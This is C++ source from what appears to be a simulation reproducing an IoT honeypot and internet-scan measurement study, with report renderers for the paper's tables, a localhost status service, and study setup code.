    const auto key = std::string(row.honeypot) + "|" +
                     std::string(proto::protocol_name(row.protocol));
    table.add_row({std::string(row.honeypot),
                   std::string(proto::protocol_name(row.protocol)),
                   with_commas(row.events),
                   with_commas(study.scaled_attack(row.events)),
                   with_commas(by_pair.count(key))});
  }
  table.add_row({"Total", "", with_commas(devices::paper::kTable7Total),
                 with_commas(study.scaled_attack(devices::paper::kTable7Total)),
                 with_commas(study.attack_log().size())});

  // Unique source classification per honeypot.
  const auto breakdowns = classify_honeypot_sources(
      study.attack_log(), study.rdns(), study.scan_service_domains());
  util::Table sources({"Honeypot", "Paper scan/mal/unknown",
                       "Measured scan/mal/unknown"});
  for (const auto& row : table7_sources()) {
    const auto it = breakdowns.find(std::string(row.honeypot));
    const SourceBreakdown measured =
        it == breakdowns.end() ? SourceBreakdown{} : it->second;
    sources.add_row(
        {std::string(row.honeypot),
         with_commas(row.scanning_service) + " / " +
             with_commas(row.malicious) + " / " + with_commas(row.unknown),
         with_commas(measured.scanning_service) + " / " +
             with_commas(measured.malicious) + " / " +
             with_commas(measured.unknown)});
  }
  return header("Table 7: attack events by honeypot and protocol") +
         table.render() + "\nUnique source IP classification:\n" +
         sources.render();
}

std::string report_fig3_scanning_services(Study& study) {
  // Which scanning services hit which honeypot (share of service traffic).
  util::Counter by_service;
  std::map<std::string, util::Counter> per_honeypot;
  const auto domains = study.scan_service_domains();
  for (const auto& event : study.attack_log().events()) {
    const auto domain = study.rdns().lookup(event.source);
    if (!domain) continue;
    for (const auto& spec : attackers::scan_service_specs()) {
      if (domain->size() >= spec.domain.size() &&
          domain->compare(domain->size() - spec.domain.size(),
                          spec.domain.size(), spec.domain) == 0) {
        by_service.add(spec.name);
        per_honeypot[event.honeypot].add(spec.name);
      }
    }
  }
  const double total =
      static_cast<double>(std::max<std::uint64_t>(1, by_service.total()));
  util::Table table({"Scanning service", "Share of service traffic"});
  for (const auto& [service, count] : by_service.ranked()) {
    table.add_row({service, percent(count / total)});
  }
  return header("Figure 3: scanning-service traffic on honeypots") +
         table.render();
}

std::string report_fig4_attack_types(Study& study) {
  std::map<std::string, util::Counter> per_honeypot;
  for (const auto& event : study.attack_log().events()) {
    per_honeypot[event.honeypot].add(
        std::string(honeynet::attack_type_name(event.type)));
  }
  util::Table table({"Honeypot", "Attack type", "Share"});
  for (const auto& [honeypot, counter] : per_honeypot) {
    const double total = static_cast<double>(counter.total());
    for (const auto& [type, count] : counter.ranked()) {
      table.add_row({honeypot, type, percent(count / total)});
    }
  }
  return header("Figure 4: attack types in different honeypots") +
         table.render();
}

std::string report_table8_telescope(Study& study) {
  const auto capture_days = std::max<std::uint64_t>(
      1, sim::to_days(study.config().attack_duration));
  util::Table table({"Protocol", "Paper daily avg", "Measured daily avg",
                     "Paper unique IPs", "Measured unique IPs"});
  for (const auto& row : table8()) {
    table.add_row(
        {std::string(proto::protocol_name(row.protocol)),
         with_commas(row.daily_avg),
         with_commas(static_cast<std::uint64_t>(
             study.scope().daily_average_for(row.protocol, capture_days))),
         with_commas(row.unique_ips),
         with_commas(study.scope().unique_sources_for(row.protocol))});
  }
  table.add_row({"(spoofed pkts)", "-", with_commas(study.scope().spoofed_packets()),
                 "-", ""});
  table.add_row({"(masscan pkts)", "-", with_commas(study.scope().masscan_packets()),
                 "-", ""});
  return header("Table 8: telescope suspicious traffic classification") +
         table.render();
}

std::string report_fig5_greynoise(Study& study) {
  // Our scanning-service sources seen at honeypots + telescope.
  std::vector<util::Ipv4Addr> service_sources;
  const auto domains = study.scan_service_domains();
  std::set<std::uint32_t> seen;
  for (const auto& event : study.attack_log().events()) {
    if (classify_source(event.source, study.rdns(), domains) ==
            SourceClass::kScanningService &&
        seen.insert(event.source.value()).second) {
      service_sources.push_back(event.source);
    }
  }
  for (const auto source : study.scope().all_sources()) {
    if (classify_source(source, study.rdns(), domains) ==
            SourceClass::kScanningService &&
        seen.insert(source.value()).second) {
      service_sources.push_back(source);
    }
  }
  const auto comparison =
      compare_with_greynoise(service_sources, study.greynoise());
  util::Table table({"Metric", "Paper", "Measured"});
  table.add_row({"Scanning-service IPs (ours)",
                 with_commas(devices::paper::kHoneypotScanServiceIps),
                 with_commas(comparison.ours)});
  table.add_row({"Known to GreyNoise",
                 with_commas(devices::paper::kHoneypotScanServiceIps -
                             devices::paper::kGreynoiseMissedIps),
                 with_commas(comparison.greynoise)});
  table.add_row({"Missed by GreyNoise",
                 with_commas(devices::paper::kGreynoiseMissedIps),
                 with_commas(comparison.missed)});

  // Per-protocol comparison (the bars of the paper's Figure 5): which
  // scanning-service sources touched each protocol, and how many of those
  // GreyNoise already knew.
  std::map<std::string, std::pair<std::set<std::uint32_t>,
                                  std::set<std::uint32_t>>>
      per_protocol;  // protocol -> (ours, known-to-GreyNoise)
  for (const auto& event : study.attack_log().events()) {
    if (classify_source(event.source, study.rdns(), domains) !=
        SourceClass::kScanningService) {
      continue;
    }
    auto& [ours, known] =
        per_protocol[std::string(proto::protocol_name(event.protocol))];
    ours.insert(event.source.value());
    if (study.greynoise().lookup(event.source) ==
        intel::GreyNoiseClass::kBenign) {
      known.insert(event.source.value());
    }
  }
  util::Table by_protocol(
      {"Protocol", "Ours (unique IPs)", "Known to GreyNoise"});
  for (const auto& [protocol, sets] : per_protocol) {
    by_protocol.add_row({protocol, with_commas(sets.first.size()),
                         with_commas(sets.second.size())});
  }
  return header("Figure 5: classification of scanning-services vs GreyNoise") +
         table.render() + "\nPer protocol:\n" + by_protocol.render();
}

std::string report_fig6_virustotal(Study& study) {
  // Unknown/suspicious sources per protocol, honeypot (H) and telescope (T).
  const auto domains = study.scan_service_domains();
  std::map<std::string, std::vector<util::Ipv4Addr>> honeypot_sources;
  std::map<std::string, std::set<std::uint32_t>> seen;
  for (const auto& event : study.attack_log().events()) {
    if (classify_source(event.source, study.rdns(), domains) ==
        SourceClass::kScanningService) {
      continue;
    }
    const auto protocol = std::string(proto::protocol_name(event.protocol));
    if (seen[protocol].insert(event.source.value()).second) {
      honeypot_sources[protocol].push_back(event.source);
    }
  }
  std::map<std::string, std::vector<util::Ipv4Addr>> telescope_sources;
  for (const auto protocol : proto::scanned_protocols()) {
    const auto name = std::string(proto::protocol_name(protocol));
    for (const auto source : study.scope().sources_for(protocol)) {
      if (classify_source(source, study.rdns(), domains) !=
          SourceClass::kScanningService) {
        telescope_sources[name].push_back(source);
      }
    }
  }
  const auto h_rates =
      virustotal_flag_rates(honeypot_sources, study.virustotal(), "(H)");
  const auto t_rates =
      virustotal_flag_rates(telescope_sources, study.virustotal(), "(T)");
  util::Table table({"Protocol", "% flagged malicious by VirusTotal"});
  for (const auto& [label, rate] : h_rates) {
    table.add_row({label, percent(rate)});
  }
  for (const auto& [label, rate] : t_rates) {
    table.add_row({label, percent(rate)});
  }
  return header("Figure 6: malware classification by VirusTotal") +
         table.render();
}

std::string report_fig7_trends(Study& study) {
  std::map<std::string, util::Counter> per_protocol;
  for (const auto& event : study.attack_log().events()) {
    per_protocol[std::string(proto::protocol_name(event.protocol))].add(
        std::string(honeynet::attack_type_name(event.type)));
  }
  util::Table table({"Protocol", "Attack type", "Share"});
  for (const auto& [protocol, counter] : per_protocol) {
    const double total = static_cast<double>(counter.total());
    for (const auto& [type, count] : counter.ranked()) {
      table.add_row({protocol, type, percent(count / total)});
    }
  }
  return header("Figure 7: attack trends by type and protocol") +
         table.render();
}

std::string report_fig8_daily(Study& study) {
  const auto by_day = study.attack_log().count_by_day();
  std::string out = header("Figure 8: total attacks by day");
  // Listing markers (one per service per day; a service lists all six
  // honeypot addresses in the same sweep).
  std::map<std::uint64_t, std::set<std::string>> listings_by_day;
  for (const auto& listing : study.fleet().listings()) {
    listings_by_day[sim::to_days(listing.when)].insert(listing.service);
  }
  const auto days =
      sim::to_days(study.config().attack_duration);
  std::uint64_t peak = 1;
  for (const auto& [day, count] : by_day.raw()) peak = std::max(peak, count);
  for (std::uint64_t day = 0; day < days; ++day) {
    char key[16];
    std::snprintf(key, sizeof(key), "day%02llu",
                  static_cast<unsigned long long>(day));
    const auto count = by_day.count(key);
    std::string bar(static_cast<std::size_t>(54.0 * count / peak), '#');
    out += std::string(key) + " " + bar + " " + util::with_commas(count);
    const auto listing = listings_by_day.find(day);
    if (listing != listings_by_day.end()) {
      out += "   <- listed by";
      for (const auto& service : listing->second) out += " " + service;
    }
    out += "\n";
  }
  return out;
}

std::string report_fig9_multistage(Study& study) {
  const auto chains = detect_multistage(study.attack_log(), study.rdns(),
                                        study.scan_service_domains());
  const auto stages = multistage_stage_histogram(chains);
  std::string out = header("Figure 9: multistage attacks detected");
  out += "Paper: " + with_commas(devices::paper::kMultistageAttacks) +
         " chains; expected@scale: " +
         with_commas(study.scaled_attack(devices::paper::kMultistageAttacks)) +
         "; measured: " + with_commas(chains.size()) + "\n";
  for (std::size_t i = 0; i < stages.size(); ++i) {
    out += "Stage " + std::to_string(i + 1) + ": ";
    for (const auto& [protocol, count] : stages[i].ranked()) {
      out += protocol + "=" + with_commas(count) + " ";
    }
    out += "\n";
  }
  return out;
}

std::string report_correlation(Study& study) {
  util::Table table({"Metric", "Paper", "Expected@scale", "Measured"});
  const auto& infected = study.infected();
  table.add_row({"Misconfigured devices attacking (total)",
                 with_commas(devices::paper::kInfectedTotal),
                 with_commas(study.scaled_population(
                     devices::paper::kInfectedTotal)),
                 with_commas(infected.total())});
  table.add_row({"  attacked only honeypots",
                 with_commas(devices::paper::kInfectedHoneypotsOnly),
                 with_commas(study.scaled_population(
                     devices::paper::kInfectedHoneypotsOnly)),
                 with_commas(infected.honeypot_only.size())});
  table.add_row({"  attacked only telescope",
                 with_commas(devices::paper::kInfectedTelescopeOnly),
                 with_commas(study.scaled_population(
                     devices::paper::kInfectedTelescopeOnly)),
                 with_commas(infected.telescope_only.size())});
  table.add_row({"  attacked both",
                 with_commas(devices::paper::kInfectedBoth),
                 with_commas(study.scaled_population(
                     devices::paper::kInfectedBoth)),
                 with_commas(infected.both.size())});
  table.add_row({"Additional IoT attackers via Censys",
                 with_commas(devices::paper::kCensysExtraIot),
                 with_commas(study.scaled_population(
                     devices::paper::kCensysExtraIot)),
                 with_commas(study.censys_extra())});

  // §5.3's final step: reverse-lookup of attack sources — registered
  // domains serving web pages, a subset flagged malicious by VirusTotal
  // (paper: 797 domains, 427 webpages, 346 flagged URLs) — plus the Tor
  // relay attribution of §5.1.6 (151 unique Tor IPs).
  std::set<std::uint32_t> sources;
  for (const auto& event : study.attack_log().events()) {
    sources.insert(event.source.value());
  }
  const auto service_domains = study.scan_service_domains();
  std::uint64_t domains = 0, flagged_urls = 0, tor_ips = 0;
  for (const auto value : sources) {
    const util::Ipv4Addr source(value);
    if (study.fleet().exonerator().was_relay(source)) ++tor_ips;
    const auto domain = study.rdns().lookup(source);
    if (!domain) continue;
    if (classify_source(source, study.rdns(), service_domains) ==
        SourceClass::kScanningService) {
      continue;
    }
    if (domain->find("torproject.org") != std::string::npos) continue;
    ++domains;
    if (study.virustotal().url_malicious("http://" + *domain + "/")) {
      ++flagged_urls;
    }
  }
  table.add_row({"Attack sources with registered domains", "797", "-",
                 with_commas(domains)});
  table.add_row({"  of those, URLs flagged by VirusTotal", "346", "-",
                 with_commas(flagged_urls)});
  table.add_row({"HTTP attack sources on Tor exit relays",
                 with_commas(devices::paper::kTorRelayIps), "-",
                 with_commas(tor_ips)});
  return header("Section 5.3: attacks from infected (misconfigured) hosts") +
         table.render();
}

std::string report_table12_credentials(Study& study) {
  // Credentials observed in honeypot login events ("user:pass OK/FAIL").
  util::Counter telnet_creds, ssh_creds;
  for (const auto& event : study.attack_log().events()) {
    if (event.type != honeynet::AttackType::kBruteForce &&
        event.type != honeynet::AttackType::kDictionary) {
      continue;
    }
    const auto space = event.detail.rfind(' ');
    const auto cred = space == std::string::npos ? event.detail
                                                 : event.detail.substr(0, space);
    if (event.protocol == proto::Protocol::kTelnet) {
      telnet_creds.add(cred);
    } else if (event.protocol == proto::Protocol::kSsh) {
      ssh_creds.add(cred);
    }
  }
  util::Table table({"Protocol", "Credentials", "Count"});
  int rows = 0;
  for (const auto& [cred, count] : telnet_creds.ranked()) {
    if (rows++ >= 10) break;
    table.add_row({"Telnet", cred, with_commas(count)});
  }
  rows = 0;
  for (const auto& [cred, count] : ssh_creds.ranked()) {
    if (rows++ >= 7) break;
    table.add_row({"SSH", cred, with_commas(count)});
  }
  return header("Table 12: top credentials used by adversaries (measured)") +
         table.render();
}

}  // namespace ofh::core
