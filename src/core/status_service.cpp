#include "core/status_service.h"

#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <algorithm>
#include <cstdint>
#include <utility>
#include <vector>

namespace ofh::core {

namespace {

constexpr std::size_t kReadChunk = 4096;
// A connection whose unread input or unsent output exceeds this is not a
// well-behaved client; drop it instead of buffering without bound.
constexpr std::size_t kMaxBufferedBytes = 4u << 20;

util::Bytes error_frame_body(StatusErrorCode code, std::string_view message) {
  return net::wire_error_body(code, message);
}

std::uint64_t to_milli(double v) {
  if (!(v > 0.0)) return 0;
  return static_cast<std::uint64_t>(v * 1000.0);
}

util::Bytes handle_status(const StatusContext& context) {
  const obs::LiveSnapshot snap = context.hub->snapshot(false);
  const obs::SamplerStats stats = context.sampler != nullptr
                                      ? context.sampler->last()
                                      : obs::SamplerStats{};
  util::ByteWriter writer;
  writer.u8(kStatusResponseBit |
            static_cast<std::uint8_t>(StatusRequest::kStatus));
  writer.u64(snap.epoch);
  writer.u8(snap.phase);
  writer.str8(snap.phase_name.substr(0, 255));
  writer.u64(snap.sim_now);
  writer.u64(snap.sim_day);
  writer.u64(snap.sweep_done);
  writer.u64(snap.sweep_total);
  writer.u8(static_cast<std::uint8_t>(snap.sweeps.size()));
  for (const auto& sweep : snap.sweeps) {
    writer.str8(sweep.name.substr(0, 255));
    writer.u64(sweep.done);
    writer.u64(sweep.total);
  }
  writer.u64(snap.trace_recorded);
  writer.u64(snap.trace_dropped);
  writer.u64(snap.events_published);
  writer.u8(static_cast<std::uint8_t>(obs::kProgressKindCount));
  for (const std::uint64_t count : snap.kind_counts) {
    writer.u64(count);
  }
  writer.u64(stats.rss_bytes);
  writer.u64(stats.vm_hwm_bytes);
  writer.u64(to_milli(stats.hosts_per_sec));
  writer.u64(to_milli(stats.packets_per_sec));
  writer.u64(stats.eta_seconds < 0.0
                 ? ~std::uint64_t{0}
                 : static_cast<std::uint64_t>(stats.eta_seconds * 1000.0));
  writer.u64(to_milli(stats.wall_elapsed_seconds));
  return writer.take();
}

util::Bytes handle_progress(const StatusContext& context,
                            std::uint64_t cursor_start) {
  obs::ProgressRing::Cursor cursor;
  cursor.next = cursor_start;
  std::vector<obs::ProgressEvent> events(kMaxProgressEventsPerFrame);
  const std::size_t n =
      context.hub->poll(cursor, events.data(), events.size());
  util::ByteWriter writer;
  writer.u8(kStatusResponseBit |
            static_cast<std::uint8_t>(StatusRequest::kProgress));
  writer.u64(cursor.next);
  writer.u64(cursor.lost);
  writer.u16(static_cast<std::uint16_t>(n));
  for (std::size_t i = 0; i < n; ++i) {
    const obs::ProgressEvent& event = events[i];
    writer.u64(event.seq);
    writer.u8(static_cast<std::uint8_t>(event.kind));
    writer.u8(event.phase);
    writer.u16(event.shard);
    writer.u64(event.sim_time);
    writer.u64(event.a);
    writer.u64(event.b);
  }
  return writer.take();
}

util::Bytes handle_text(StatusRequest request, const std::string& text) {
  util::ByteWriter writer;
  writer.u8(kStatusResponseBit | static_cast<std::uint8_t>(request));
  writer.u32(static_cast<std::uint32_t>(text.size()));
  writer.text(text);
  return writer.take();
}

util::Bytes handle_trace_stats(const StatusContext& context) {
  const obs::LiveSnapshot snap = context.hub->snapshot(false);
  util::ByteWriter writer;
  writer.u8(kStatusResponseBit |
            static_cast<std::uint8_t>(StatusRequest::kTraceStats));
  writer.u16(static_cast<std::uint16_t>(
      std::min<std::size_t>(snap.trace_shards.size(), 0xffff)));
  for (const auto& shard : snap.trace_shards) {
    writer.u16(shard.shard);
    writer.u64(shard.recorded);
    writer.u64(shard.dropped);
  }
  return writer.take();
}

}  // namespace

std::string_view status_error_name(StatusErrorCode code) {
  return net::wire_error_name(code);
}

util::Bytes handle_status_frame(std::span<const std::uint8_t> body,
                                StatusContext& context) {
  if (body.size() > kMaxStatusRequestBody) {
    return error_frame_body(StatusErrorCode::kOversized,
                            "request body exceeds 64 bytes");
  }
  util::ByteReader reader(body);
  const auto tag = reader.u8();
  if (!tag) {
    return error_frame_body(StatusErrorCode::kMalformed, "empty request");
  }
  if (context.hub == nullptr) {
    return error_frame_body(StatusErrorCode::kUnavailable, "no hub attached");
  }
  switch (static_cast<StatusRequest>(*tag)) {
    case StatusRequest::kStatus: {
      if (!reader.done()) {
        return error_frame_body(StatusErrorCode::kMalformed,
                                "status takes no payload");
      }
      return handle_status(context);
    }
    case StatusRequest::kProgress: {
      std::uint64_t cursor = 0;
      if (reader.remaining() != 0) {
        const auto parsed = reader.u64();
        if (!parsed || !reader.done()) {
          return error_frame_body(StatusErrorCode::kMalformed,
                                  "progress payload must be one u64 cursor");
        }
        cursor = *parsed;
      }
      return handle_progress(context, cursor);
    }
    case StatusRequest::kMetrics: {
      if (!reader.done()) {
        return error_frame_body(StatusErrorCode::kMalformed,
                                "metrics takes no payload");
      }
      return handle_text(StatusRequest::kMetrics,
                         obs::Registry::global().export_prometheus(true));
    }
    case StatusRequest::kPhaseMetrics: {
      if (!reader.done()) {
        return error_frame_body(StatusErrorCode::kMalformed,
                                "phase-metrics takes no payload");
      }
      return handle_text(
          StatusRequest::kPhaseMetrics,
          context.hub->text(obs::IntrospectionHub::TextSlot::kPhaseMetrics));
    }
    case StatusRequest::kDegradation: {
      if (!reader.done()) {
        return error_frame_body(StatusErrorCode::kMalformed,
                                "degradation takes no payload");
      }
      return handle_text(
          StatusRequest::kDegradation,
          context.hub->text(obs::IntrospectionHub::TextSlot::kDegradation));
    }
    case StatusRequest::kTraceStats: {
      if (!reader.done()) {
        return error_frame_body(StatusErrorCode::kMalformed,
                                "trace-stats takes no payload");
      }
      return handle_trace_stats(context);
    }
    case StatusRequest::kStop: {
      if (!reader.done()) {
        return error_frame_body(StatusErrorCode::kMalformed,
                                "stop takes no payload");
      }
      if (!context.allow_stop) {
        return error_frame_body(StatusErrorCode::kForbidden,
                                "stop not permitted");
      }
      context.stop_requested = true;
      util::ByteWriter writer;
      writer.u8(kStatusResponseBit |
                static_cast<std::uint8_t>(StatusRequest::kStop));
      return writer.take();
    }
  }
  return error_frame_body(StatusErrorCode::kUnknownTag,
                          "unknown request tag");
}

util::Bytes frame_status_message(std::span<const std::uint8_t> body) {
  return net::wire_frame(body);
}

// ------------------------------------------------------------------ server

namespace {

bool set_nonblocking(int fd) {
  const int flags = fcntl(fd, F_GETFL, 0);
  return flags >= 0 && fcntl(fd, F_SETFL, flags | O_NONBLOCK) == 0;
}

struct Connection {
  int fd = -1;
  util::Bytes in;
  util::Bytes out;
  bool close_after_flush = false;
};

}  // namespace

StatusService::StatusService(const obs::IntrospectionHub& hub,
                             Options options)
    : hub_(&hub),
      options_(std::move(options)),
      sampler_(hub, options_.tick_ms > 0
                        ? static_cast<std::uint64_t>(options_.tick_ms)
                        : 100) {}

StatusService::~StatusService() { stop(); }

void StatusService::close_listeners() {
  for (int* fd : {&unix_fd_, &tcp_fd_, &wake_fds_[0], &wake_fds_[1]}) {
    if (*fd >= 0) {
      ::close(*fd);
      *fd = -1;
    }
  }
  if (!options_.unix_path.empty()) {
    ::unlink(options_.unix_path.c_str());
  }
}

bool StatusService::start() {
  if (running_.load(std::memory_order_acquire)) return true;
  if (options_.unix_path.empty() && !options_.tcp) {
    error_ = "no listener configured";
    return false;
  }
  if (::pipe(wake_fds_) != 0) {
    error_ = "pipe failed";
    return false;
  }
  set_nonblocking(wake_fds_[0]);

  if (!options_.unix_path.empty()) {
    sockaddr_un addr{};
    addr.sun_family = AF_UNIX;
    if (options_.unix_path.size() >= sizeof addr.sun_path) {
      error_ = "unix socket path too long";
      close_listeners();
      return false;
    }
    std::memcpy(addr.sun_path, options_.unix_path.c_str(),
                options_.unix_path.size() + 1);
    ::unlink(options_.unix_path.c_str());
    unix_fd_ = ::socket(AF_UNIX, SOCK_STREAM, 0);
    if (unix_fd_ < 0 ||
        ::bind(unix_fd_, reinterpret_cast<sockaddr*>(&addr), sizeof addr) !=
            0 ||
        ::listen(unix_fd_, 16) != 0 || !set_nonblocking(unix_fd_)) {
      error_ = "unix socket bind/listen failed: ";
      error_ += ::strerror(errno);
      close_listeners();
      return false;
    }
  }

  if (options_.tcp) {
    tcp_fd_ = ::socket(AF_INET, SOCK_STREAM, 0);
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);  // localhost only
    addr.sin_port = htons(options_.tcp_port);
    const int one = 1;
    if (tcp_fd_ >= 0) {
      ::setsockopt(tcp_fd_, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    }
    socklen_t len = sizeof addr;
    if (tcp_fd_ < 0 ||
        ::bind(tcp_fd_, reinterpret_cast<sockaddr*>(&addr), sizeof addr) !=
            0 ||
        ::listen(tcp_fd_, 16) != 0 || !set_nonblocking(tcp_fd_) ||
        ::getsockname(tcp_fd_, reinterpret_cast<sockaddr*>(&addr), &len) !=
            0) {
      error_ = "tcp bind/listen failed: ";
      error_ += ::strerror(errno);
      close_listeners();
      return false;
    }
    tcp_port_ = ntohs(addr.sin_port);
  }

  shutdown_.store(false, std::memory_order_release);
  running_.store(true, std::memory_order_release);
  thread_ = std::thread([this] { loop(); });
  return true;
}

void StatusService::stop() {
  if (!running_.load(std::memory_order_acquire)) return;
  shutdown_.store(true, std::memory_order_release);
  if (wake_fds_[1] >= 0) {
    const char byte = 1;
    [[maybe_unused]] const auto n = ::write(wake_fds_[1], &byte, 1);
  }
  if (thread_.joinable()) thread_.join();
  close_listeners();
  running_.store(false, std::memory_order_release);
}

void StatusService::loop() {
  std::vector<Connection> connections;
  std::vector<pollfd> fds;

  const auto drop_connection = [&connections](std::size_t index) {
    ::close(connections[index].fd);
    connections.erase(connections.begin() +
                      static_cast<std::ptrdiff_t>(index));
  };

  while (!shutdown_.load(std::memory_order_acquire)) {
    fds.clear();
    fds.push_back({wake_fds_[0], POLLIN, 0});
    if (unix_fd_ >= 0) fds.push_back({unix_fd_, POLLIN, 0});
    if (tcp_fd_ >= 0) fds.push_back({tcp_fd_, POLLIN, 0});
    const std::size_t first_conn = fds.size();
    for (const auto& conn : connections) {
      short events = POLLIN;
      if (!conn.out.empty()) events |= POLLOUT;
      fds.push_back({conn.fd, events, 0});
    }

    const int timeout = options_.tick_ms > 0 ? options_.tick_ms : 100;
    const int ready = ::poll(fds.data(), fds.size(), timeout);
    // Wall-domain sampling rides the poll cadence; the sampler rate-limits
    // itself so busy connections don't oversample.
    sampler_.tick();
    if (ready <= 0) continue;

    // Drain the self-pipe (shutdown is re-checked by the loop condition).
    if ((fds[0].revents & POLLIN) != 0) {
      char scratch[16];
      while (::read(wake_fds_[0], scratch, sizeof scratch) > 0) {
      }
    }

    // Accept on both listeners.
    for (std::size_t i = 1; i < first_conn; ++i) {
      if ((fds[i].revents & POLLIN) == 0) continue;
      for (;;) {
        const int client = ::accept(fds[i].fd, nullptr, nullptr);
        if (client < 0) break;
        set_nonblocking(client);
        Connection conn;
        conn.fd = client;
        connections.push_back(std::move(conn));
      }
    }

    // Service existing connections (iterate backwards: drops are erases).
    for (std::size_t i = connections.size(); i-- > 0;) {
      Connection& conn = connections[i];
      const pollfd* pfd = nullptr;
      for (std::size_t f = first_conn; f < fds.size(); ++f) {
        if (fds[f].fd == conn.fd) {
          pfd = &fds[f];
          break;
        }
      }
      if (pfd == nullptr) continue;
      bool dead = (pfd->revents & (POLLERR | POLLHUP | POLLNVAL)) != 0 &&
                  (pfd->revents & POLLIN) == 0;

      if (!dead && (pfd->revents & POLLIN) != 0) {
        std::uint8_t chunk[kReadChunk];
        for (;;) {
          const ssize_t n = ::read(conn.fd, chunk, sizeof chunk);
          if (n > 0) {
            conn.in.insert(conn.in.end(), chunk, chunk + n);
            if (conn.in.size() > kMaxBufferedBytes) {
              dead = true;
              break;
            }
            continue;
          }
          if (n == 0) dead = true;  // EOF (truncated frames die silently)
          break;
        }
      }

      // Extract complete frames.
      while (!dead && !conn.close_after_flush) {
        const net::FrameView frame =
            net::peek_frame(conn.in, kMaxStatusRequestBody);
        if (frame.status == net::FrameStatus::kNeedMore) break;
        if (frame.status == net::FrameStatus::kOversized) {
          // The declared length cannot be trusted; answer and hang up.
          const util::Bytes error = error_frame_body(
              StatusErrorCode::kOversized, "frame length exceeds 64 bytes");
          const util::Bytes framed = frame_status_message(error);
          conn.out.insert(conn.out.end(), framed.begin(), framed.end());
          conn.close_after_flush = true;
          break;
        }
        StatusContext context;
        context.hub = hub_;
        context.sampler = &sampler_;
        context.allow_stop = options_.allow_stop;
        const util::Bytes response = handle_status_frame(frame.body, context);
        if (context.stop_requested) {
          stop_requested_.store(true, std::memory_order_release);
        }
        const util::Bytes framed = frame_status_message(response);
        conn.out.insert(conn.out.end(), framed.begin(), framed.end());
        net::consume_frame(conn.in, frame.body.size());
        if (conn.out.size() > kMaxBufferedBytes) {
          conn.close_after_flush = true;
        }
      }

      // Flush pending output.
      if (!dead && !conn.out.empty()) {
        const ssize_t n = ::write(conn.fd, conn.out.data(), conn.out.size());
        if (n > 0) {
          conn.out.erase(conn.out.begin(), conn.out.begin() + n);
        } else if (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK &&
                   errno != EINTR) {
          dead = true;
        }
      }
      if (conn.close_after_flush && conn.out.empty()) dead = true;
      if (dead) drop_connection(i);
    }
  }

  for (auto& conn : connections) {
    ::close(conn.fd);
  }
}

}  // namespace ofh::core
