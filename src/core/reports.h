// Report renderers: print each of the paper's tables/figures with three
// columns — paper-reported, expected-at-scale, and measured — so benches
// can show whether the reproduced pipeline recovers the planted shape.
#pragma once

#include <string>

#include "core/study.h"

namespace ofh::core {

std::string report_table4_exposed(Study& study);
std::string report_fig2_device_types(Study& study);
std::string report_table5_misconfigured(Study& study);
std::string report_table6_honeypots(Study& study);
std::string report_table10_countries(Study& study);
std::string report_table7_attacks(Study& study);
std::string report_fig3_scanning_services(Study& study);
std::string report_fig4_attack_types(Study& study);
std::string report_table8_telescope(Study& study);
std::string report_fig5_greynoise(Study& study);
std::string report_fig6_virustotal(Study& study);
std::string report_fig7_trends(Study& study);
std::string report_fig8_daily(Study& study);
std::string report_fig9_multistage(Study& study);
std::string report_correlation(Study& study);
std::string report_table12_credentials(Study& study);

}  // namespace ofh::core
