#include "core/study.h"

#include "devices/paper_stats.h"

namespace ofh::core {

Study::Study(StudyConfig config) : config_(config) {
  fabric_ = std::make_unique<net::Fabric>(sim_, config_.seed);
  fabric_->set_latency(sim::msec(15), sim::msec(25));
}

Study::~Study() = default;

std::uint64_t Study::scaled_population(std::uint64_t paper) const {
  if (paper == 0) return 0;
  return std::max<std::uint64_t>(
      1, static_cast<std::uint64_t>(paper * config_.population_scale + 0.5));
}

std::uint64_t Study::scaled_attack(std::uint64_t paper) const {
  if (paper == 0) return 0;
  return std::max<std::uint64_t>(
      1, static_cast<std::uint64_t>(paper * config_.attack_scale + 0.5));
}

void Study::setup_internet() {
  devices::PopulationSpec spec;
  spec.seed = config_.seed;
  spec.scale = config_.population_scale;
  population_ = std::make_unique<devices::Population>(spec);
  population_->build();
  population_->attach_all(*fabric_);

  // Plant third-party honeypots (Table 6 ground truth) among the devices.
  for (const auto& signature : honeynet::honeypot_signatures()) {
    const auto count = scaled_population(signature.paper_count);
    for (std::uint64_t i = 0; i < count; ++i) {
      auto honeypot = std::make_unique<honeynet::WildHoneypot>(
          signature, population_->allocate_extra());
      honeypot->attach(*fabric_);
      wild_honeypots_.push_back(std::move(honeypot));
    }
  }

  telescope_ = std::make_unique<telescope::Telescope>(config_.telescope_range);
  telescope_->attach(*fabric_);
  rsdos_ = std::make_unique<telescope::RsdosDetector>(config_.telescope_range);
  rsdos_->attach(*fabric_);

  geo_ = std::make_unique<intel::GeoDb>(*population_);
}

void Study::run_scan() {
  scanner_ = std::make_unique<scanner::Scanner>(
      util::Ipv4Addr(192, 35, 168, 10), scan_db_);  // the university host
  scanner_->attach(*fabric_);

  // Six sweeps spread across one week at the paper's day offsets
  // (Appendix Table 9: CoAP Mar 1; UPnP+Telnet Mar 2; MQTT+AMQP Mar 4;
  // XMPP Mar 5).
  static constexpr std::uint64_t kDayOffsets[] = {0, 1, 1, 3, 3, 4};
  const sim::Time scan_epoch = sim_.now();
  std::size_t index = 0;
  for (const auto protocol : proto::scanned_protocols()) {
    const sim::Time start = scan_epoch + sim::days(kDayOffsets[index++]);
    if (start > sim_.now()) sim_.run_until(start);
    scan_dates_[protocol] = sim_.now();

    scanner::ScanConfig scan;
    scan.protocol = protocol;
    scan.targets = population_->prefixes();
    scan.blocklist = scanner::default_blocklist();
    scan.seed = config_.seed ^ static_cast<std::uint64_t>(protocol);
    scan.batch_size = config_.scan_batch;
    bool done = false;
    scanner_->start(scan, [&done] { done = true; });
    while (!done && sim_.step()) {
    }
  }

  unfiltered_findings_ = classify::classify_all(scan_db_);
  fingerprints_ = classify::fingerprint_all(scan_db_);
  findings_ = config_.filter_honeypots
                  ? classify::filter_honeypots(unfiltered_findings_,
                                               fingerprints_)
                  : unfiltered_findings_;
}

void Study::run_datasets() {
  sonar_ = datasets::generate_snapshot(datasets::project_sonar_model(),
                                       *population_, config_.seed + 11);
  shodan_ = datasets::generate_snapshot(datasets::shodan_model(),
